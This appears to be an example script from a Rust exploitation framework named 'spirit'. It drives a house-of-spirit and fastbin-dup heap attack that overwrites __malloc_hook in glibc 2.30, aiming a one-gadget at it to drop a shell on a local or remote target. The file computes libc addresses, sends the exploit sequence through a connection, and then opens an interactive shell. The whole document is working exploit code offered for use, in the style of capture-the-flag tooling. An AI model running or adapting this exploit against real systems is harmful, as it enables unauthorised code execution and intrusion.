/*
   spirit Example Script
   house of spirit + fastbin dup into __malloc_hook, glibc 2.30 (no tcache)
*/

use std::path::PathBuf;

use clap::Parser;

use spirit::config::{Mode, Settings};
use spirit::house_of_spirit;
use spirit::logging as log;
use spirit::script::Sequencer;
use spirit::session::Session;
use spirit::tubes::{Connection, Tube};

#[derive(Parser, Debug)]
#[command(about = "Drop a shell through the house of spirit")]
struct Args {
    /// settings file, SPIRIT_* environment variables override it
    #[arg(short, long, default_value = "spirit.toml")]
    config: PathBuf,

    /// start the target under gdbserver with the configured libc preloaded
    #[arg(long, conflicts_with = "remote")]
    gdb: bool,

    /// connect to the configured host and port instead of spawning
    #[arg(long)]
    remote: bool,
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let args = Args::parse();

    let config = args.config.exists().then_some(args.config.as_path());
    let settings = Settings::load(config)?;
    settings.apply_to_context()?;

    let mode = match (args.gdb, args.remote) {
        (true, _) => Mode::Debug,
        (_, true) => Mode::Remote,
        _ => Mode::Local,
    };

    let layout = settings.layout()?;
    log::info(format!(
        "puts {:#x}, __malloc_hook {:#x}, one gadget {:#x}",
        layout.puts, layout.malloc_hook, layout.one_gadget
    ));
    let script = house_of_spirit::script(&layout);

    let conn = Connection::connect(&settings.launch_mode(mode)?).await?;
    let session = Session::new(conn, settings.timeout());

    let done = Sequencer::new(session, settings.relaxed_timeout())
        .run(&script)
        .await?;

    let mut conn = done.session.into_connection();
    conn.interactive().await?;
    Ok(())
}
